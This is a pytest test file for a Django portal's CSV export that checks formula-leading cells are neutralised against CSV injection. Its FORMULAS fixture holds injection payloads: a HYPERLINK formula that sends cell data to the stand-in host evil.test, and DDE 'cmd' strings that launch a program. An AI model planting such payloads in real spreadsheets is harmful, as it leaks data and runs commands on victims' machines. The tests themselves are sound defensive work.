"""The one CSV writer of the portal: French Excel's format, and no cell that
a spreadsheet would run as a formula (OWASP CSV injection)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.conf import settings

from accounts.network.models import Organisation
from portal.spreadsheets import cell, csv_response
from tests.portal.dashboard_data import order, paris

FORMULAS = {
    "=": '=HYPERLINK("http://evil.test/?"&A1;"Détails")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def read(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_text_cell_with_a_formula_start_is_shown_as_text(payload):
    rows = read(csv_response("x.csv", ["Texte"], [[payload]]))

    assert rows == [["Texte"], ["'" + payload]]


@pytest.mark.parametrize(
    "value, written",
    [
        (Decimal("-12.50"), "-12,50"),
        ("-12,50", "-12,50"),
        ("+3", "+3"),
        ("-1 290,00", "-1 290,00"),
        (-7, "-7"),
        (date(2026, 10, 5), "2026-10-05"),
        (None, ""),
        ("- urgent", "'- urgent"),
        ("-", "'-"),
        ("Mme Girard", "Mme Girard"),
    ],
)
def test_numbers_stay_numbers_and_text_stays_as_typed(value, written):
    assert cell(value) == written


@pytest.mark.django_db
@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS.keys())
def test_the_dashboard_export_neutralises_formulas(client, owner, payload):
    organisation = owner.membership.organisation
    Organisation.objects.filter(pk=organisation.pk).update(name=payload)
    # Half of September's amount in October: the change is a negative number.
    order(organisation=organisation, placed_at=paris(2026, 9, 15), amount="200.00")
    order(organisation=organisation, placed_at=paris(2026, 10, 5), amount="100.00")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(owner)

    rows = read(
        client.get(
            "/reseller/dashboard/",
            {"start": "2026-10-01", "end": "2026-10-31", "format": "csv"},
        )
    )

    assert ["Reseller", "'" + payload, "", ""] in rows
    assert ["Orders placed", "Change", "Amount (%)", "-50"] in rows
